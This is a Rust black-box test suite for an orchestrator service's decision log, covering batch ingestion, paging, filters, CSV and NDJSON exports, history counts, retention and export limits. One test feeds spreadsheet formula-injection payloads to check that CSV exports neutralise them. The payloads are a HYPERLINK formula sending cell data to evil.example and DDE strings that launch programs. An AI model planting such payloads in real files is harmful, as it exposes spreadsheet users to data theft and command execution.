//! Stored history, black-box against the release binary: batches all or
//! nothing, the decision log's paging and filters and its exports against a
//! reference the test keeps, the trends of `/history` against the same
//! reference, retention, and what `--in-memory` answers.

use std::time::Duration;

use serde_json::{Value, json};
use tests::{Client, Server, eventually};

const QUERIES: [&str; 4] = [
    "alpha report",
    "Beta, \"quoted\"",
    "gamma\nline",
    "alpha beta",
];

fn decision(i: usize) -> Value {
    let tiers = ["fast", "Q3", "powerful"];
    let mut d = json!({
        "query": format!("{} {i}", QUERIES[i % 4]),
        "tier": tiers[i % 3],
        "score": (i * 7 % 31) as f64 / 2.0,
        "decisionTimeMs": (i % 5) as f64 * 0.5,
    });
    match i % 3 {
        0 => d["mode"] = json!("two-stage"),
        1 => d["mode"] = json!("simple"),
        _ => {}
    }
    d
}

/// Ingests `n` decisions in batches of 100: their answers, oldest first.
async fn ingest(c: &Client, n: usize) -> Vec<Value> {
    let mut all = Vec::new();
    for chunk in (0..n).collect::<Vec<_>>().chunks(100) {
        let batch: Vec<Value> = chunk.iter().map(|i| decision(*i)).collect();
        let (code, got) = c.post("/api/orchestrator/decisions", &json!(batch)).await;
        assert_eq!(code, 201, "{got}");
        all.extend(got.as_array().unwrap().iter().cloned());
    }
    all
}

#[tokio::test]
async fn a_batch_is_all_or_nothing() {
    let server = Server::start(&[]);
    let c = Client::new(&server.base);
    let mut batch: Vec<Value> = (0..10).map(decision).collect();
    batch[7]["score"] = json!(99);
    let (code, body) = c.post("/api/orchestrator/decisions", &json!(batch)).await;
    assert_eq!(code, 422);
    assert!(
        body["error"].as_str().unwrap().starts_with("[7].score"),
        "{body}"
    );
    let too_many: Vec<Value> = (0..1001).map(decision).collect();
    assert_eq!(
        c.post("/api/orchestrator/decisions", &json!(too_many))
            .await
            .0,
        422
    );
    assert_eq!(
        c.post("/api/orchestrator/decisions", &json!([])).await.0,
        422
    );
    assert_eq!(c.status().await["totalDecisions"], 0, "nothing recorded");
    let full: Vec<Value> = (0..1000).map(decision).collect();
    let (code, got) = c.post("/api/orchestrator/decisions", &json!(full)).await;
    assert_eq!(code, 201);
    let seqs: Vec<u64> = got
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["seq"].as_u64().unwrap())
        .collect();
    assert_eq!(seqs, (1..=1000).collect::<Vec<_>>(), "in the order given");
    assert_eq!(c.status().await["totalDecisions"], 1000);
}

/// Every decision a history answer counts, over its tiers and points.
fn decisions_in(h: &Value) -> u64 {
    (0..3)
        .map(|t| {
            h["series"][t]["decisions"]
                .as_array()
                .unwrap()
                .iter()
                .map(|v| v.as_u64().unwrap())
                .sum::<u64>()
        })
        .sum()
}

/// Which of the ingested decisions a filter keeps.
type Keep = Box<dyn Fn(&Value) -> bool>;

#[tokio::test]
async fn the_log_pages_filters_and_exports_like_the_reference() {
    let server = Server::start(&[]);
    let c = Client::new(&server.base);
    let all = ingest(&c, 450).await;
    let newest_first: Vec<&Value> = all.iter().rev().collect();
    let filters: [(&str, Keep); 6] = [
        ("", Box::new(|_| true)),
        ("tier=Q3", Box::new(|d| d["tier"] == "Q3")),
        (
            "tier=powerful&complexity=COMPLEX",
            Box::new(|d| d["tier"] == "Q4" && d["complexity"] == "COMPLEX"),
        ),
        ("mode=none", Box::new(|d| d.get("mode").is_none())),
        (
            "mode=two-stage&q=alpha",
            Box::new(|d| {
                d["mode"] == "two-stage" && d["query"].as_str().unwrap().contains("alpha")
            }),
        ),
        (
            "q=%22quoted%22",
            Box::new(|d| d["query"].as_str().unwrap().contains("\"quoted\"")),
        ),
    ];
    for (params, keep) in &filters {
        let want: Vec<&Value> = newest_first.iter().copied().filter(|d| keep(d)).collect();
        assert!(!want.is_empty(), "{params}");
        // Page through with keyset paging.
        let mut got: Vec<Value> = Vec::new();
        let mut before: Option<u64> = None;
        loop {
            let mut path = format!("/api/orchestrator/decisions?limit=37&{params}");
            if let Some(b) = before {
                path.push_str(&format!("&before={b}"));
            }
            let (code, page) = c.get(&path).await;
            assert_eq!(code, 200, "{page}");
            got.extend(page["decisions"].as_array().unwrap().iter().cloned());
            match page["nextBefore"].as_u64() {
                Some(b) => before = Some(b),
                None => break,
            }
        }
        let want_owned: Vec<Value> = want.iter().map(|d| (*d).clone()).collect();
        assert_eq!(got, want_owned, "{params}");
        // The NDJSON export: the same decisions.
        let text = c
            .text(&format!(
                "/api/orchestrator/decisions?format=ndjson&{params}"
            ))
            .await;
        let lines: Vec<Value> = text
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        assert_eq!(lines, want_owned, "ndjson {params}");
        // The CSV export: a header, then one record per decision.
        let text = c
            .text(&format!("/api/orchestrator/decisions?format=csv&{params}"))
            .await;
        let mut r = csv::Reader::from_reader(text.as_bytes());
        let header = r.headers().unwrap().clone();
        let at = |name: &str| header.iter().position(|h| h == name).unwrap();
        let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), want.len(), "csv {params}");
        for (row, d) in rows.iter().zip(&want) {
            assert_eq!(row[at("seq")], d["seq"].to_string());
            assert_eq!(&row[at("query")], d["query"].as_str().unwrap());
            assert_eq!(&row[at("tier")], d["tier"].as_str().unwrap());
        }
    }
    // An export's limit, and paging from a seq.
    let text = c
        .text("/api/orchestrator/decisions?format=ndjson&limit=5&before=100")
        .await;
    let seqs: Vec<u64> = text
        .lines()
        .map(|l| {
            serde_json::from_str::<Value>(l).unwrap()["seq"]
                .as_u64()
                .unwrap()
        })
        .collect();
    assert_eq!(seqs, [99, 98, 97, 96, 95]);
    for bad in [
        "limit=0",
        "limit=1001",
        "tier=Q5",
        "complexity=hard",
        "mode=x",
        "format=xml",
        "before=0",
    ] {
        let (code, body) = c.get(&format!("/api/orchestrator/decisions?{bad}")).await;
        assert_eq!(code, 400, "{bad}: {body}");
        assert!(body["error"].is_string());
    }
}

#[tokio::test]
async fn history_counts_match_the_reference() {
    let server = Server::start(&[]);
    let c = Client::new(&server.base);
    let all = ingest(&c, 600).await;
    let (code, h) = c.get("/api/orchestrator/history?from=-2h&step=1m").await;
    assert_eq!(code, 200, "{h}");
    assert_eq!(h["step"], "1m");
    assert_eq!(h["stepSeconds"], 60);
    // Two hours at a minute: 120 steps, one more when `from` is not on a
    // minute (the first point holds it).
    let times = h["times"].as_array().unwrap();
    assert!((120..=121).contains(&times.len()), "{}", times.len());
    let sum = |tier: usize, key: &str| -> u64 {
        h["series"][tier][key]
            .as_array()
            .unwrap()
            .iter()
            .map(|v| v.as_u64().unwrap())
            .sum()
    };
    for (i, tier) in ["Q2", "Q3", "Q4"].iter().enumerate() {
        assert_eq!(h["series"][i]["tier"], *tier);
        let mine: Vec<&Value> = all.iter().filter(|d| d["tier"] == *tier).collect();
        assert_eq!(sum(i, "decisions"), mine.len() as u64, "{tier}");
        for (key, label) in [
            ("simple", "SIMPLE"),
            ("moderate", "MODERATE"),
            ("complex", "COMPLEX"),
        ] {
            let want = mine.iter().filter(|d| d["complexity"] == label).count() as u64;
            assert_eq!(sum(i, key), want, "{tier} {key}");
        }
        let two = mine.iter().filter(|d| d["mode"] == "two-stage").count() as u64;
        assert_eq!(sum(i, "twoStage"), two);
        let ms: f64 = mine
            .iter()
            .map(|d| d["decisionTimeMs"].as_f64().unwrap())
            .sum();
        let got: f64 = h["series"][i]["decisionTimeMsSum"]
            .as_array()
            .unwrap()
            .iter()
            .map(|v| v.as_f64().unwrap())
            .sum();
        assert!((got - ms).abs() < 1e-6, "{tier}: {got} vs {ms}");
        let buckets: u64 = h["series"][i]["decisionTimeBuckets"]
            .as_array()
            .unwrap()
            .iter()
            .map(|v| v.as_u64().unwrap())
            .sum();
        assert_eq!(buckets, mine.len() as u64);
    }
    // Coarser steps hold the same totals.
    for step in ["5m", "1h", "1d"] {
        let (code, h2) = c
            .get(&format!("/api/orchestrator/history?from=-2d&step={step}"))
            .await;
        assert_eq!(code, 200, "{h2}");
        assert_eq!(decisions_in(&h2), 600, "{step}");
    }
    // Seven days at one hour (168 steps, 169 points off the hour); a span
    // of more than 1440 steps is a 400.
    let (code, h3) = c.get("/api/orchestrator/history?from=-7d&step=1h").await;
    assert_eq!(code, 200);
    assert!((168..=169).contains(&h3["times"].as_array().unwrap().len()));
    let (code, _) = c.get("/api/orchestrator/history?from=-2d&step=1m").await;
    assert_eq!(code, 400);
    for bad in ["step=2m", "from=yesterday", "from=now&to=-1h", "to=1e9"] {
        let (code, body) = c.get(&format!("/api/orchestrator/history?{bad}")).await;
        assert_eq!(code, 400, "{bad}: {body}");
    }
}

#[tokio::test]
async fn retention_drops_old_decisions_but_not_the_totals() {
    let server = Server::start(&["--keep-decisions", "2s"]);
    let c = Client::new(&server.base);
    ingest(&c, 30).await;
    tokio::time::sleep(Duration::from_millis(2_500)).await;
    let fresh = ingest(&c, 5).await;
    let gone = eventually(Duration::from_secs(5), || async {
        let (_, page) = c.get("/api/orchestrator/decisions?limit=1000").await;
        page["decisions"].as_array().unwrap().len() == 5
    })
    .await;
    assert!(gone, "decisions older than --keep-decisions are deleted");
    let (_, page) = c.get("/api/orchestrator/decisions").await;
    assert_eq!(page["decisions"][0]["seq"], fresh[4]["seq"]);
    assert_eq!(c.status().await["totalDecisions"], 35, "totals stay");
}

#[tokio::test]
async fn in_memory_has_no_store() {
    let server = Server::start(&["--in-memory"]);
    let c = Client::new(&server.base);
    assert_eq!(
        c.post("/api/orchestrator/decisions", &decision(1)).await.0,
        201
    );
    let s = c.status().await;
    assert_eq!(s["persistence"]["state"], "off");
    for path in ["/api/orchestrator/history", "/api/orchestrator/decisions"] {
        let (code, body) = c.get(path).await;
        assert_eq!(code, 404, "{path}");
        assert!(body["error"].as_str().unwrap().contains("--in-memory"));
    }
}

/// Query texts that a spreadsheet would run as formulas reach the CSV
/// export as text (a leading `'`), and the NDJSON export unchanged.
#[tokio::test]
async fn csv_export_never_carries_a_formula() {
    let server = Server::start(&[]);
    let c = Client::new(&server.base);
    let payloads = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click me\")",
        "@SUM(1+1)*cmd|'/C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|'/C notepad'!A1",
        "\t=1+1",
    ];
    for p in payloads {
        let body = json!({"query": p, "tier": "fast", "score": 1.0, "decisionTimeMs": 0.1});
        assert_eq!(c.post("/api/orchestrator/decisions", &body).await.0, 201);
    }
    let text = c.text("/api/orchestrator/decisions?format=csv").await;
    let mut r = csv::Reader::from_reader(text.as_bytes());
    let header = r.headers().unwrap().clone();
    let at = header.iter().position(|h| h == "query").unwrap();
    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), payloads.len());
    for (row, p) in rows.iter().rev().zip(payloads) {
        assert_eq!(&row[at], format!("'{p}"), "{p:?}");
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?}"
            );
        }
    }
    let ndjson = c.text("/api/orchestrator/decisions?format=ndjson").await;
    let queries: Vec<String> = ndjson
        .lines()
        .map(|l| {
            serde_json::from_str::<Value>(l).unwrap()["query"]
                .as_str()
                .unwrap()
                .to_owned()
        })
        .collect();
    let mut want: Vec<&str> = payloads.to_vec();
    want.reverse();
    assert_eq!(queries, want, "NDJSON keeps the text as it is");
}

/// A range off the step's boundaries: the first point holds `from`, so a
/// decision made in the range is in the answer at every step.
#[tokio::test]
async fn history_points_cover_the_whole_range() {
    let server = Server::start(&[]);
    let c = Client::new(&server.base);
    ingest(&c, 1).await;
    let tomorrow = (now() + chrono::Duration::days(1)).format("%Y-%m-%d");
    let to = format!("{tomorrow}T00:00:30Z");
    for step in ["1m", "5m", "1h", "1d"] {
        let (code, h) = c
            .get(&format!(
                "/api/orchestrator/history?from=-5m&to={to}&step={step}"
            ))
            .await;
        assert_eq!(code, 200, "{step}: {h}");
        assert_eq!(
            decisions_in(&h),
            1,
            "{step}: the decision made in the range"
        );
        let from: chrono::DateTime<chrono::Utc> = h["from"].as_str().unwrap().parse().unwrap();
        assert!(
            from <= now() - chrono::Duration::minutes(5),
            "{step}: {from}"
        );
        let end: chrono::DateTime<chrono::Utc> = h["to"].as_str().unwrap().parse().unwrap();
        assert!(
            end >= to.parse::<chrono::DateTime<chrono::Utc>>().unwrap(),
            "{step}: {end}"
        );
    }
}

/// Exports that nobody reads hold no thread and are bounded: beyond
/// `--max-exports` a 503 with Retry-After; the rest of the API answers; a
/// stalled one is closed after `--write-timeout`, freeing its place.
#[tokio::test]
async fn exports_nobody_reads_are_bounded_and_closed() {
    let server = Server::start(&["--max-exports", "3", "--write-timeout", "2"]);
    let c = Client::new(&server.base);
    ingest_40k(&c).await;
    let addr: std::net::SocketAddr = server.base.trim_start_matches("http://").parse().unwrap();
    let stalled = stall_exports(addr, 3).await;
    tokio::time::sleep(Duration::from_millis(500)).await;
    let res = c
        .http()
        .get(server.url("/api/orchestrator/decisions?format=csv"))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 503);
    assert!(res.headers().contains_key("retry-after"));
    let body: Value = res.json().await.unwrap();
    assert!(
        body["error"].as_str().unwrap().contains("--max-exports"),
        "{body}"
    );
    // Nothing else waits for them.
    assert_eq!(c.get("/api/orchestrator/decisions?limit=5").await.0, 200);
    assert_eq!(c.get("/api/orchestrator/history?from=-1h").await.0, 200);
    // The write timeout closes them: exports are served again.
    let served = eventually(Duration::from_secs(10), || async {
        let res = c
            .http()
            .get(server.url("/api/orchestrator/decisions?format=ndjson&limit=10"))
            .send()
            .await
            .unwrap();
        res.status() == 200 && res.text().await.unwrap().lines().count() == 10
    })
    .await;
    assert!(served, "the stalled exports' places are free again");
    drop(stalled);
}

/// Exports that nobody reads hold no thread while they wait: once the
/// blocking pool's idle threads have gone (10 s), the server has no more
/// threads than before they were sent.
#[tokio::test]
async fn a_stalled_export_holds_no_thread() {
    let server = Server::start(&["--max-exports", "20", "--write-timeout", "120"]);
    let c = Client::new(&server.base);
    ingest_40k(&c).await;
    let addr: std::net::SocketAddr = server.base.trim_start_matches("http://").parse().unwrap();
    let before = threads(server.pid());
    let stalled = stall_exports(addr, 20).await;
    tokio::time::sleep(Duration::from_secs(13)).await;
    let after = threads(server.pid());
    assert!(
        after <= before + 1,
        "{before} threads before, {after} with 20 stalled exports"
    );
    assert_eq!(c.get("/api/orchestrator/decisions?limit=5").await.0, 200);
    drop(stalled);
}

/// 40,000 decisions in batches of 1,000: about 10 MB of NDJSON, more than
/// the socket buffers hold.
async fn ingest_40k(c: &Client) {
    for chunk in 0..40 {
        let batch: Vec<Value> = (chunk * 1000..(chunk + 1) * 1000).map(decision).collect();
        assert_eq!(
            c.post("/api/orchestrator/decisions", &json!(batch)).await.0,
            201
        );
    }
}

/// `n` connections that ask for an NDJSON export and never read (with a
/// tiny receive buffer, so they stall at once).
async fn stall_exports(addr: std::net::SocketAddr, n: usize) -> Vec<tokio::net::TcpStream> {
    use tokio::io::AsyncWriteExt as _;
    let mut stalled = Vec::new();
    for _ in 0..n {
        let socket = tokio::net::TcpSocket::new_v4().unwrap();
        socket.set_recv_buffer_size(4096).unwrap();
        let mut s = socket.connect(addr).await.unwrap();
        s.write_all(b"GET /api/orchestrator/decisions?format=ndjson HTTP/1.1\r\nHost: t\r\n\r\n")
            .await
            .unwrap();
        stalled.push(s);
    }
    stalled
}

fn now() -> chrono::DateTime<chrono::Utc> {
    std::time::SystemTime::now().into()
}

/// The threads of process `pid`.
fn threads(pid: u32) -> usize {
    std::fs::read_dir(format!("/proc/{pid}/task"))
        .unwrap()
        .count()
}
